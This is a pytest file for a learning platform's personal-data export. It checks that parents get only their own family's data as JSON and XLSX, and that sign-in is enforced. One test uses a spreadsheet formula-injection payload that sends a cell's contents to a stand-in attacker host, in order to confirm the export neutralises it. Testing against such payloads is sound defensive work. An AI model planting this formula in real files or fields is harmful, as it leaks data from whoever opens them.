"""A person's own data (lms.family.my_data): a parent downloads their own and their children's
data as JSON and XLSX, and nothing of another family; a learner downloads their own."""

import io
import json
from datetime import date

import pytest
from conftest import page_text
from flask import current_app
from flask_babel import gettext
from openpyxl import load_workbook
from sqlalchemy import select

from lms.extensions import db
from lms.learning import certificates
from lms.learning.progress import record_completion
from lms.models import Certificate, Consent, Course, Lesson, LessonProgress
from lms.people.households import link_guardian

PASSWORD = "correct horse battery"
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'


def t(msgid, **kwargs):
    with current_app.test_request_context():
        return gettext(msgid, **kwargs)


@pytest.fixture
def families(factory, courses):
    """Family A: Mai and her children Nam (3A, with a completion, a certificate and a lesson
    read) and Hà (7B of another school); family B: Lan and her son Bình, who completed too."""
    school = factory.school(name="Trường Tiểu học Kim Đồng")
    other_school = factory.school(name="Trường THCS Lê Lợi")
    room = factory.classroom(school, name="3A", grade=3)
    other_room = factory.classroom(other_school, name="7B", grade=7)
    nam = factory.pupil(room, name="Trần Văn Nam", password=None)
    nam.date_of_birth = date(2017, 5, 2)
    nam.student_code = "HS-KD-0001"
    ha = factory.pupil(other_room, name="Trần Thu Hà", password=None)
    mai = factory.user("parent", username="me.mai", name="Nguyễn Thị Mai", phone="0912000001")
    for child in (nam, ha):
        link_guardian(db.session, mai, child)
    binh = factory.pupil(room, name="Phạm Văn Bình", password=None)
    binh.student_code = "HS-KD-0002"
    lan = factory.user("parent", username="me.lan", name="Lê Thị Lan", phone="0912000002")
    link_guardian(db.session, lan, binh)
    course = db.session.scalar(select(Course).where(Course.slug == "quiz-course"))
    lesson = db.session.scalar(select(Lesson).where(Lesson.course_id == course.id).order_by(Lesson.position))
    db.session.add(LessonProgress(user_id=nam.id, lesson_id=lesson.id, course_id=course.id))
    record_completion(db.session, nam.id, course.id, score=90.0, attempt_id=None)
    db.session.add(Consent(pupil_id=nam.id, kind="guardian", source="paper", given_on=date(2025, 9, 10)))
    db.session.add(Consent(pupil_id=binh.id, kind="guardian", source="pairing", given_on=date(2025, 9, 11),
                           given_by_id=lan.id))
    record_completion(db.session, binh.id, course.id, score=70.0, attempt_id=None)
    record_completion(db.session, lan.id, course.id, score=80.0, attempt_id=None)
    factory.commit()
    return {"mai": mai, "nam": nam, "ha": ha, "lan": lan, "binh": binh, "course": course,
            "lesson": lesson}


OTHER_FAMILY = ("Lê Thị Lan", "Phạm Văn Bình", "0912000002", "me.lan", "HS-KD-0002")


def codes_of(*people) -> list[str]:
    held = db.session.scalars(select(Certificate).where(Certificate.user_id.in_([p.id for p in people])))
    return [certificates.code_of(c) for c in held]


def test_a_parent_downloads_their_own_and_their_childrens_data_as_json(browser, families):
    assert browser.login("me.mai").status_code == 302
    response = browser.get("/my-data.json")
    assert response.status_code == 200 and response.mimetype == "application/json"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="du-lieu-cua-toi-')
    body = response.get_data(as_text=True)
    data = json.loads(body)

    me = data["person"]
    assert (me["name"], me["phone"], me["username"], me["role"]) == (
        "Nguyễn Thị Mai", "0912000001", "me.mai", "parent")
    assert me["account_created_on"] is not None and me["account_number"] == families["mai"].id
    assert [c["name"] for c in data["children"]] == ["Trần Thu Hà", "Trần Văn Nam"]
    ha, nam = data["children"]
    assert (nam["date_of_birth"], nam["student_code"], nam["current_class"], nam["current_school"]) == (
        "2017-05-02", "HS-KD-0001", "3A", "Trường Tiểu học Kim Đồng")
    assert [(e["class"], e["school"], e["started_on"], e["ended_on"]) for e in nam["enrolments"]] == [
        ("3A", "Trường Tiểu học Kim Đồng", "2025-09-05", None)]
    course = families["course"].title
    assert [(c["course"], c["score"]) for c in nam["completions"]] == [(course, 90.0)]
    assert [(r["course"], r["lesson"]) for r in nam["lessons_read"]] == [(course, families["lesson"].title)]
    assert [(c["kind"], c["course"]) for c in nam["certificates"]] == [("course", course)]
    assert nam["consents"] == [
        {"kind": "guardian", "source": "paper", "given_on": "2025-09-10", "withdrawn_on": None}]
    assert (ha["current_class"], ha["completions"], ha["certificates"], ha["consents"]) == ("7B", [], [], [])
    # Nothing of the other family, no certificate code, no secret.
    for text in (*OTHER_FAMILY, *codes_of(families["nam"], families["binh"])):
        assert text not in body
    mai = db.session.get(type(families["mai"]), families["mai"].id)
    assert "password" not in body and mai.password_hash not in body


def test_the_xlsx_holds_the_same_data_and_nothing_of_another_family(browser, families):
    browser.login("me.mai")
    response = browser.get("/my-data.xlsx")
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = load_workbook(io.BytesIO(response.data))
    cells = [str(c.value) for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    for text in OTHER_FAMILY:
        assert not any(text in cell for cell in cells), text
    people = book[t("People")]
    rows = [[c.value for c in row] for row in people.iter_rows(min_row=2)]
    assert [r[0] for r in rows] == ["Nguyễn Thị Mai", "Trần Thu Hà", "Trần Văn Nam"]
    assert rows[0][4] == "0912000001"
    assert rows[2][6].date() == date(2017, 5, 2) and rows[2][7] == "3A"
    completed = book[t("Completed courses")]
    assert [[c.value for c in row][0:2] + [row[3].value] for row in completed.iter_rows(min_row=2)] == [
        ["Trần Văn Nam", families["course"].title, 90]]
    consents = [[c.value for c in row] for row in book[t("Consents")].iter_rows(min_row=2)]
    assert consents == [["Trần Văn Nam", t("the guardian's"), t("on a paper form"),
                         consents[0][3], None]] and consents[0][3].date() == date(2025, 9, 10)


def test_a_name_that_looks_like_a_formula_stays_text(browser, factory, families):
    factory.user("parent", username="me.la", name=HYPERLINK, phone="0912000003")
    factory.commit()
    browser.login("me.la")
    book = load_workbook(io.BytesIO(browser.get("/my-data.xlsx").data))
    cell = book[t("People")]["A2"]
    assert cell.data_type == "s" and cell.value == "'" + HYPERLINK
    data = json.loads(browser.get("/my-data.json").get_data(as_text=True))
    assert data["person"]["name"] == HYPERLINK  # JSON is data, not a spreadsheet


def test_the_family_page_links_to_a_page_that_shows_and_offers_the_data(browser, families):
    browser.login("me.mai")
    assert t("My data and my children's: see and download") in page_text(browser.get("/family").get_data(
        as_text=True))
    page = page_text(browser.get("/my-data").get_data(as_text=True))
    for text in ("Nguyễn Thị Mai", "Trần Văn Nam", "Trần Thu Hà", t("Download (Excel)"), t("Download (JSON)")):
        assert text in page
    assert not any(text in page for text in OTHER_FAMILY)


def test_a_learner_downloads_their_own_data_from_my_results(make_browser, factory, families):
    teacher = factory.user("teacher", username="gv.hoa", name="Đỗ Thị Hoa")
    record_completion(db.session, teacher.id, families["course"].id, score=100.0, attempt_id=None)
    factory.commit()
    browser = make_browser()
    browser.login("gv.hoa")
    assert t("My data: see and download") in page_text(browser.get("/history").get_data(as_text=True))
    data = json.loads(browser.get("/my-data.json").get_data(as_text=True))
    assert data["person"]["name"] == "Đỗ Thị Hoa" and data["children"] == []
    assert [c["score"] for c in data["person"]["completions"]] == [100.0]


@pytest.mark.parametrize("url", ["/my-data", "/my-data.json", "/my-data.xlsx"])
def test_signed_out_visitors_are_sent_to_sign_in(client, url):
    response = client.get(url)
    assert response.status_code == 302 and "/login" in response.location
